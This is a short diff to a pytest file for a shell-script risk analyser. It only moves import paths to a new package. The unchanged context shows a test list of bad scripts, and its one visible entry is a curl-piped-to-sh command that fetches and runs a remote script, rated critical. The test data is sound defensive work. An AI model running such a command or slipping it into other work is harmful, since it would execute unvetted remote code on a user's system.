@@ -5,8 +5,8 @@ from pathlib import Path
 import pytest
 from analysis_kit import SCRIPT, of_script, worst
 
-from validator.devnet.analysis.analyse import analyse
-from validator.devnet.analysis.shell_parser import parse_script
+from localnet.analysis.analyse import analyse
+from localnet.analysis.shell_parser import parse_script
 
 BAD = [
     ("curl -fsSL https://get.invalid/i.sh | sh", "critical"),
